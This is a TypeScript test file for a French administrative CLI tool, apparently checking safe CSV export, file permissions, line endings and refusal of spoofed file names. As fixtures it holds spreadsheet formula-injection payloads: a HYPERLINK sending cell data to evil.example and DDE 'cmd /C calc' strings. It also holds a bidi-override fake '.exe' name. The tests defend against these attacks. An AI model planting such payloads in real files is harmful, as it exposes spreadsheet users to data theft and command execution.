import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { run as runProgram } from '../../src/cli.js';
import { testIo } from '../helpers/cli.js';
import { DOCUMENTS, writeDocument } from '../helpers/documents.js';
import { DIALECTS, freshLocation, type FreshLocation } from '../helpers/stores.js';
import { HEAVY, CORR, attach, auditLog, clis, createAccount, json, withDb } from './fixtures.js';

/**
 * Issue 14, files in and out, end to end on each dialect: rejects reports that never replace a
 * file nor touch the input and appear only when a run ends (point 5), spreadsheet formulas made
 * inert in every CSV (8), mixed line endings (9), files for people created 0600 (12), names that
 * lie refused and stored text shown escaped (16).
 */

const FIXTURES = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../fixtures');
const MADRHAS = path.join(FIXTURES, 'madrhas.csv');
const ANNUAIRE = path.join(FIXTURES, 'annuaire.csv');
/** The MADRHAS fixture's lines without their CRLF: [0] the header, [n] line n + 1. */
const LINES = fs.readFileSync(MADRHAS, 'utf8').split('\r\n');
/** The directory fixture's header (its BOM dropped) and rows by identifier. */
const DIRECTORY = fs
  .readFileSync(ANNUAIRE, 'utf8')
  .replace(/^\uFEFF/, '')
  .split('\r\n');
const directoryRow = (identifier: string) =>
  DIRECTORY.find((l) => l.startsWith(`SIRET;${identifier};`))!;

const PAULINE = 'pauline.dufour@mairie-pau.fr';
const JEAN = 'jean.martin@mairie-pau.fr';
const ANNE_MARIE = 'anne-marie.le-gall@mont-de-marsan.fr';
const SOPHIE = 'sophie.bernard@chateau-pau.fr';
const GP = 'gp@mairie-pau.fr';
const PAU = '21640445900010';
const MUSEE = '19640001400011';
/** What the fixture's first run leaves (Sophie as the file says, INACTIF). */
const AFTER_FIRST_RUN = {
  [CORR]: 'ACTIF',
  [ANNE_MARIE]: 'ACTIF',
  [JEAN]: 'ACTIF',
  [PAULINE]: 'ACTIF',
  [SOPHIE]: 'INACTIF',
};

// a raison sociale as the issue imported it: a CR/LF, and a right-to-left override
const NASTY = 'COMMUNE DE PAU\r\nLIGNE 2 \u202Efdp.exe';
const SHOWN = 'COMMUNE DE PAU\\r\\nLIGNE 2 \\u{202E}fdp.exe';
// the formulas of the issue
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
const SUM = '@SUM(1+1)*cmd|"/C calc"!A0';
const CMD = "+cmd|' /C calc'!A0";

const mode = (file: string) => fs.statSync(file).mode & 0o777;

let umask: number;
beforeAll(() => {
  // the usual umask, under which a file created without a mode is world-readable (0644)
  umask = process.umask(0o022);
});
afterAll(() => {
  process.umask(umask);
});

describe.each(DIALECTS)('files in and out (%s)', HEAVY, (dialect) => {
  let fresh: FreshLocation;
  let cli: ReturnType<typeof clis>;
  beforeEach(async () => {
    // `init`, then as CORR the fixture directory and services (test/helpers/templates.ts)
    fresh = await freshLocation(dialect, 'seeded');
    cli = clis(fresh.location);
  }, HEAVY.timeout);
  afterEach(async () => {
    await fresh.cleanup();
  });

  const sync = (...args: string[]) => cli.corr('sync', 'madrhas', ...args);
  /** A file of the test's folder: `text` as is. */
  const put = (name: string, text: string | Buffer): string => {
    const p = path.join(fresh.dir, name);
    fs.writeFileSync(p, text);
    return p;
  };
  /** The MADRHAS header, then the given lines, CRLF. */
  const madrhas = (name: string, ...lines: string[]) =>
    put(name, [LINES[0]!, ...lines].map((l) => `${l}\r\n`).join(''));
  const statuses = async (): Promise<Record<string, string>> => {
    const r = await cli.corr('account', 'list', '--json');
    expect(r.code, r.stderr).toBe(0);
    return Object.fromEntries(
      json<{ login: string; status: string }[]>(r).map((a) => [a.login, a.status]),
    );
  };
  /** The test folder's entries, the store's own files and the inputs aside. */
  const entries = () =>
    fs
      .readdirSync(fresh.dir)
      .filter((f) => !f.startsWith('store.sqlite'))
      .sort();

  describe('--rejects (point 5)', () => {
    it('naming the import’s own input, by any name: 6 before any work, the input whole', async () => {
      const input = put('annuaire.csv', fs.readFileSync(ANNUAIRE));
      const bytes = fs.readFileSync(input);
      fs.symlinkSync(input, path.join(fresh.dir, 'lien.csv'));
      fs.linkSync(input, path.join(fresh.dir, 'dur.csv'));
      fs.mkdirSync(path.join(fresh.dir, 'sous'));
      const log = (await auditLog(fresh.location)).length;
      for (const out of [
        input,
        path.join(fresh.dir, 'sous', '..', 'annuaire.csv'),
        path.join(fresh.dir, 'lien.csv'),
        path.join(fresh.dir, 'dur.csv'),
      ]) {
        const r = await cli.corr('structure', 'import', input, '--rejects', out);
        expect(r.code, out).toBe(6);
        expect(r.stderr).toBe(
          `Erreur : Le rapport de rejets ${out} est le fichier d’entrée lui-même. Rien n’a été modifié ; choisissez un autre nom.\n`,
        );
        expect(fs.readFileSync(input).equals(bytes)).toBe(true);
      }
      const services = put('services.csv', fs.readFileSync(path.join(FIXTURES, 'services.csv')));
      const s = await cli.corr('structure', 'import-services', services, '--rejects', services);
      expect(s.code).toBe(6);
      const m = madrhas('export.csv', LINES[1]!);
      expect((await sync(m, '--rejects', m)).code).toBe(6);
      expect(fs.readFileSync(m, 'utf8')).toBe(`${LINES[0]}\r\n${LINES[1]}\r\n`);
      // nothing ran: no entry, no account
      expect((await auditLog(fresh.location)).length).toBe(log);
      expect(await statuses()).toEqual({ [CORR]: 'ACTIF' });
    });

    it('over a file, a link or a dangling link: 6, the file as it was, nothing run', async () => {
      put('rejets.csv', 'mes notes\n');
      fs.symlinkSync(path.join(fresh.dir, 'rejets.csv'), path.join(fresh.dir, 'lien.csv'));
      fs.symlinkSync(path.join(fresh.dir, 'absent.csv'), path.join(fresh.dir, 'pendant.csv'));
      for (const name of ['rejets.csv', 'lien.csv', 'pendant.csv']) {
        const out = path.join(fresh.dir, name);
        const r = await sync(MADRHAS, '--rejects', out);
        expect(r.code, name).toBe(6);
        expect(r.stderr).toBe(
          `Erreur : Le rapport de rejets ${out} existe déjà : un rapport ne remplace jamais un fichier. Rien n’a été modifié ; choisissez un autre nom.\n`,
        );
        const i = await cli.corr('structure', 'import', ANNUAIRE, '--rejects', out);
        expect(i.code, name).toBe(6);
      }
      expect(fs.readFileSync(path.join(fresh.dir, 'rejets.csv'), 'utf8')).toBe('mes notes\n');
      expect(fs.existsSync(path.join(fresh.dir, 'absent.csv'))).toBe(false);
      expect(await statuses()).toEqual({ [CORR]: 'ACTIF' });
      expect(entries()).toEqual(['lien.csv', 'pendant.csv', 'rejets.csv']);
    });

    it('a run refused over --max-deactivations, or a file that cannot be used: no report, nothing aside', async () => {
      expect((await sync(MADRHAS)).code).toBe(1);
      const truncated = madrhas('tronque.csv', LINES[1]!);
      const out = path.join(fresh.dir, 'rejets.csv');
      const refused = await sync(truncated, '--rejects', out, '--max-deactivations', '0%');
      expect(refused.code).toBe(6);
      expect(refused.stderr).toContain('Passage refusé');
      expect(entries()).toEqual(['tronque.csv']);

      const unusable = put('sans-colonne.csv', 'IDENTIFIANT_CONNEXION;NOM\r\na@b.fr;X\r\n');
      expect((await sync(unusable, '--rejects', out)).code).toBe(5);
      const missing = path.join(FIXTURES, 'annuaire-missing-column.csv');
      expect((await cli.corr('structure', 'import', missing, '--rejects', out)).code).toBe(5);
      expect(entries()).toEqual(['sans-colonne.csv', 'tronque.csv']);
      expect(await statuses()).toEqual(AFTER_FIRST_RUN);
    });

    it('a run that ends writes its report under its name, 0600 under umask 022, nothing left aside', async () => {
      const out = path.join(fresh.dir, 'rejets-sync.csv');
      const r = await sync(MADRHAS, '--rejects', out);
      expect(r.code).toBe(1);
      expect(mode(out)).toBe(0o600);
      expect(fs.readFileSync(out, 'utf8').split('\r\n')[0]).toBe(`${LINES[0]};LIGNE;ERREURS`);
      const imported = path.join(fresh.dir, 'rejets-import.csv');
      expect((await cli.corr('structure', 'import', ANNUAIRE, '--rejects', imported)).code).toBe(1);
      expect(mode(imported)).toBe(0o600);
      expect(entries()).toEqual(['rejets-import.csv', 'rejets-sync.csv']);
    });
  });

  describe('mixed line endings (point 9)', () => {
    /** The fixture's valid rows (Pauline, Jean, Anne-Marie, Sophie), each ended as `ends` says in turn. */
    const mixed = (name: string, header: string, ends: string[], lines: string[]) =>
      put(name, `${LINES[0]}${header}${lines.map((l, i) => l + ends[i % ends.length]).join('')}`);
    const VALID = [1, 2, 3, 4, 5, 15].map((n) => LINES[n]!);

    it('a CRLF header then LF rows: the accounts listed stay active even at --max-deactivations 100%', async () => {
      expect((await sync(MADRHAS)).code).toBe(1);
      // with quotes (Anne-Marie's row): read by PapaParse
      const quoted = mixed('export-lf.csv', '\r\n', ['\n'], VALID);
      const r = await sync(quoted, '--max-deactivations', '100%', '--json');
      expect(r.code, r.stderr).toBe(0);
      expect(json(r)).toMatchObject({ rows: 6, accounts: 4, deactivated: 0, rejected: 0 });
      expect(await statuses()).toEqual(AFTER_FIRST_RUN);
      // without quotes (the sync's byte reader), LF, CR and CRLF mixed
      const plain = mixed(
        'export-mixte.csv',
        '\r\n',
        ['\n', '\r', '\r\n'],
        VALID.map((l) => l.replace(/"/g, '')),
      );
      const p = await sync(plain, '--max-deactivations', '100%', '--json');
      expect(p.code, p.stderr).toBe(0);
      expect(json(p)).toMatchObject({ rows: 6, accounts: 4, deactivated: 0, rejected: 0 });
      expect(await statuses()).toEqual(AFTER_FIRST_RUN);
    });

    it('LIGNE in the rejects report counts physical lines, whatever ends them', async () => {
      // header CRLF; Pauline LF; a blank CR line; Jean's bad date CR; Jean CRLF; Zoé's bad date LF
      const bad = LINES[3]!.replace('01/02/2024', '31/02/2024');
      const text =
        `${LINES[0]}\r\n${LINES[1]}\n\r${bad}\r${LINES[4]}\r\n` + `${LINES[9]}\n${LINES[15]}\n`;
      const file = put('mixte.csv', text);
      const out = path.join(fresh.dir, 'rejets.csv');
      const r = await sync(file, '--rejects', out, '--mode', 'delta');
      expect(r.code).toBe(1);
      const report = fs.readFileSync(out, 'utf8').split('\r\n').slice(1, -1);
      expect(report.map((l) => l.split(';').at(-2))).toEqual(['4', '6']);
      expect(report[0]!.startsWith(bad)).toBe(true);
    });
  });

  describe('files for people (point 12), formulas (point 8), names and text that lie (point 16)', () => {
    /** Pauline and a GP of Pau; Pauline asks to be attached to Pau with `comment`. */
    const withRequest = async (comment: string) => {
      for (const login of [PAULINE, GP]) await createAccount(fresh.location, login);
      await withDb(fresh.location, async (db) => {
        const { id } = await db
          .selectFrom('structure')
          .select('id')
          .where('identifier', '=', PAU)
          .executeTakeFirstOrThrow();
        await attach(db, GP, id, 'GESTIONNAIRE_PRINCIPAL');
      });
      const r = await cli.as(PAULINE)('attachment', 'request', PAU, '--comment', comment);
      expect(r.code, r.stderr).toBe(0);
    };
    const importDirectory = async (rows: string[]) => {
      const file = put(
        'annuaire-maj.csv',
        [DIRECTORY[0]!, ...rows].map((l) => `${l}\r\n`).join(''),
      );
      const r = await cli.corr('structure', 'import', file);
      expect(r.code, r.stderr).toBe(0);
    };

    it('downloads and .eml files are 0600 under umask 022', async () => {
      await withRequest('Régisseuse');
      const pdf = writeDocument(fresh.dir, 'piece.pdf', DOCUMENTS.pdf());
      const added = await cli
        .as(PAULINE)('file', 'add', pdf, '--designation', 'RIB', '--type', 'RIB', '--json')
        .then(json<{ id: number }>);
      const one = path.join(fresh.dir, 'copie.pdf');
      expect((await cli.as(PAULINE)('file', 'download', String(added.id), '-o', one)).code).toBe(0);
      expect(mode(one)).toBe(0o600);
      const folder = path.join(fresh.dir, 'dossier');
      const many = await cli.as(PAULINE)(
        'file',
        'download',
        String(added.id),
        '-o',
        folder,
        '--json',
      );
      expect(many.code).toBe(0);
      const written = json<{ path: string }[]>(many);
      expect(written).toHaveLength(1);
      expect(mode(written[0]!.path)).toBe(0o600);

      const outbox = path.join(fresh.dir, 'outbox');
      expect((await cli.corr('notification', 'export', '--to', outbox)).code).toBe(0);
      const emls = fs.readdirSync(outbox);
      expect(emls.length).toBeGreaterThan(0);
      for (const f of emls) expect(mode(path.join(outbox, f)), f).toBe(0o600);
    });

    it('formulas come out with a leading quote: attachment pending, file list, structure search in csv', async () => {
      await importDirectory([directoryRow(MUSEE).replace('MUSÉE NATIONAL DU CHÂTEAU DE PAU', CMD)]);
      await withRequest(HYPERLINK);
      const pending = await cli.as(GP)('attachment', 'pending', '--format', 'csv');
      expect(pending.code).toBe(0);
      expect(pending.stdout).toContain(`;"'${HYPERLINK.replace(/"/g, '""')}";`);
      expect(pending.stdout).not.toContain(`;"${HYPERLINK.replace(/"/g, '""')}";`);

      const pdf = writeDocument(fresh.dir, 'piece.pdf', DOCUMENTS.pdf());
      expect(
        (await cli.as(PAULINE)('file', 'add', pdf, '--designation', SUM, '--type', 'AUTRE')).code,
      ).toBe(0);
      const files = await cli.as(PAULINE)('file', 'list', '--format', 'csv');
      expect(files.code).toBe(0);
      expect(files.stdout).toContain(`"'${SUM.replace(/"/g, '""')}"`);

      const search = await cli.corr('structure', 'search', 'calc', '--format', 'csv');
      expect(search.code, search.stderr).toBe(0);
      expect(search.stdout.split('\r\n')[1]).toBe(`SIRET;${MUSEE};'${CMD};64000;PAU;true`);
      // JSON keeps the value as stored
      const raw = await cli.corr('structure', 'search', 'calc', '--json');
      expect(json<{ companyName: string }[]>(raw)[0]!.companyName).toBe(CMD);
    });

    it('a raison sociale with CR/LF and a bidi override: escaped in tables and mails, raw in JSON', async () => {
      await importDirectory([directoryRow(PAU).replace('COMMUNE DE PAU', `"${NASTY}"`)]);
      // --wide: the whole escaped name, which a table at 80 columns would shorten
      const table = await cli.corr('structure', 'search', 'fdp', '--wide');
      expect(table.code, table.stderr).toBe(0);
      expect(table.stdout).toContain(SHOWN);
      expect(table.stdout).not.toMatch(/[\r\u202E]/);
      const shown = await cli.corr('structure', 'show', PAU);
      expect(shown.code, shown.stderr).toBe(0);
      expect(shown.stdout).toContain(SHOWN);
      expect(shown.stdout).not.toMatch(/[\r\u202E]/);
      const raw = await cli.corr('structure', 'show', PAU, '--json');
      expect(json<{ companyName: string }>(raw).companyName).toBe(NASTY);

      await withRequest('Régisseuse');
      const queued = json<{ event: string; to: string; subject: string }[]>(
        await cli.corr('notification', 'list', '--pending', '--json'),
      ).find((n) => n.event === 'ATTACHMENT_REQUESTED' && n.to === GP)!;
      expect(queued.subject).toBe(`Chorus Pro : demande de rattachement à ${SHOWN}`);
      const body = await withDb(fresh.location, (db) =>
        db
          .selectFrom('notification')
          .select('body')
          .where('event', '=', 'ATTACHMENT_REQUESTED')
          .executeTakeFirstOrThrow(),
      );
      expect(body.body).toContain(`à ${SHOWN} (`);
      expect(body.body).not.toMatch(/[\r\u202E]/);
    });

    it('the files a holder ticks from on a terminal show a stored name written out', async () => {
      await createAccount(fresh.location, PAULINE);
      const pdf = writeDocument(fresh.dir, 'rapport.pdf', DOCUMENTS.pdf());
      expect(
        (await cli.as(PAULINE)('file', 'add', pdf, '--designation', 'Rapport', '--type', 'AUTRE'))
          .code,
      ).toBe(0);
      // a name stored before such names were refused
      await withDb(fresh.location, (db) =>
        db.updateTable('file').set({ name: 'rapport\u202Efdp.pdf' }).execute(),
      );
      const offered: string[] = [];
      const { io, result } = testIo({
        prompter: {
          confirm: () => Promise.resolve(false),
          input: () => Promise.reject(new Error('no input expected')),
          select: () => Promise.reject(new Error('no select expected')),
          checkbox: <T>(_: string, choices: readonly { value: T; name: string }[]) => {
            offered.push(...choices.map((c) => c.name));
            return Promise.resolve([] as T[]);
          },
        },
      });
      Object.assign(io.stdin, { isTTY: true });
      Object.assign(io.stderr, { isTTY: true });
      const code = await runProgram(
        ['--db', fresh.location, '--as', PAULINE, 'file', 'download', '-o', fresh.dir],
        io,
      );
      expect(code, result(code).stderr).toBe(0);
      expect(offered).toHaveLength(1);
      expect(offered[0]).toContain('rapport\\u{202E}fdp.pdf  Rapport (AUTRE)');
      expect(offered[0]).not.toContain('\u202E');
    });

    it('file add refuses a name with a bidi override or reserved on Windows: 5 naming PATH', async () => {
      await createAccount(fresh.location, PAULINE);
      const add = (name: string) =>
        cli.as(PAULINE)(
          'file',
          'add',
          writeDocument(fresh.dir, name, DOCUMENTS.pdf()),
          '--designation',
          'Rapport',
          '--type',
          'AUTRE',
        );
      const bidi = await add('rapport\u202Efdp.pdf');
      expect(bidi.code).toBe(5);
      expect(bidi.stderr).toContain(
        'PATH: le nom contient un caractère invisible (U+202E) : caractères de contrôle et bidirectionnels interdits',
      );
      expect(bidi.stderr).not.toContain('\u202E');
      for (const name of ['CON.pdf', 'con.tar.gz', 'Lpt1.pdf']) {
        const r = await add(name);
        expect(r.code, name).toBe(5);
        expect(r.stderr).toContain(`PATH: ${name} : nom réservé par Windows à un périphérique`);
      }
      expect(json<unknown[]>(await cli.as(PAULINE)('file', 'list', '--json'))).toEqual([]);
    });
  });
});
